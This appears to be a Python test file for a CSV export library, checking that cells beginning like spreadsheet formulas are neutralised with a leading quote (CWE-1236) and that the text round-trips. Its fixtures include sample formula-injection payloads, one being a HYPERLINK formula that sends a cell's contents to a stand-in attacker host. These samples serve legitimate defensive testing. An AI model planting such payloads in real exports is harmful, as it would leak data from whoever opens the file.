"""Every CSV usine writes: the csv module's quoting, and no cell a spreadsheet would run as a formula (CWE-1236)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conformity.agency.export import csv_text
from conformity.csvcells import FORMULA_STARTS, Figure, Writer, cell, copy_rows, may_hold_formulas, original

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Site")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r\nx", "'=x", "''-1"]


def test_a_text_starting_as_a_formula_gets_a_quote_in_front() -> None:
    assert [cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [cell(v) for v in ("Site 750100011", "'quoted'", "a=b", "", " =x")] == ["Site 750100011", "'quoted'", "a=b",
                                                                                 "", " =x"]
    assert cell(-12) == -12 and cell(-1.5) == -1.5 and cell(None) is None  # numbers are not text
    assert cell(Figure("-12.50")) == "-12.50" and cell(Figure("62000.00")) == "62000.00"  # usine's own amounts
    with pytest.raises(ValueError, match="not a decimal number"):
        Figure("=1+1")


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1 ,\"\n"), max_size=12) | st.text(max_size=20))
def test_no_cell_starts_a_formula_and_the_text_comes_back(value: str) -> None:
    written = cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert original(written) == value


def rows_csv(rows: list[list[str]]) -> bytes:
    """CSV as DuckDB's COPY writes it: LF line ends, a cell quoted when it holds a comma, a quote, LF or CR."""
    buf = io.StringIO()
    plain, quoted = csv.writer(buf, lineterminator="\n"), csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        (quoted if any("\r" in v for v in row) else plain).writerow(row)
    return buf.getvalue().encode("utf-8")


def test_a_carriage_return_in_a_cell_stays_in_its_row() -> None:
    out = io.StringIO()
    Writer(out, lineterminator="\n").writerows([["\r", "a"], ["b\rc", "d"], ["e", "f"]])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["'\r", "a"], ["b\rc", "d"], ["e", "f"]]


@settings(derandomize=True, max_examples=200, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r'a,\"\n "), max_size=6), min_size=1, max_size=4),
                min_size=1, max_size=6), st.integers(min_value=1, max_value=8))
def test_the_scan_finds_every_csv_file_with_a_cell_to_neutralise(tmp_path_factory: pytest.TempPathFactory,
                                                                 rows: list[list[str]], chunk: int) -> None:
    path = tmp_path_factory.mktemp("scan") / "part.csv"
    path.write_bytes(rows_csv(rows))
    if any(cell(v) != v for row in rows for v in row):
        assert may_hold_formulas(path, chunk=chunk)
    out = io.StringIO()
    with open(path, encoding="utf-8", newline="") as src:
        copy_rows(src, Writer(out, lineterminator="\n"))
    back = list(csv.reader(io.StringIO(out.getvalue())))
    assert back == [[cell(v) for v in row] for row in rows]


def test_the_scan_lets_plain_rows_be_copied_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "part.csv"
    path.write_bytes(rows_csv([["event", "event-unsigned", "line 12 is in no signed segment", "/x/e-1.jsonl", "12"]]))
    assert not may_hold_formulas(path)


def test_the_registry_open_data_csv_neutralises_vendor_text() -> None:
    entry = {"label_id": "lbl_1", "status": "valid", "vendor": {"id": "acme", "name": "=HYPERLINK(\"http://x\")"},
             "software": {"id": "acme-ehr", "name": "+ACME", "registration_id": "@REG"}, "versions": ["3.2"],
             "issued": "2026-01-01T00:00:00Z", "expires": "2027-01-01T00:00:00Z", "bundle_sha256": "ab" * 32}
    text = csv_text({"waves": [{"wave": "2026-W1", "categories": [{"category": "HOSPITAL", "labels": [entry]}]}]})
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["vendor_name"], row["software_name"], row["registration_id"]) == ("'=HYPERLINK(\"http://x\")", "'+ACME",
                                                                                 "'@REG")
    assert row["label_id"] == "lbl_1" and row["revoked"] == "" and row["versions"] == "3.2"
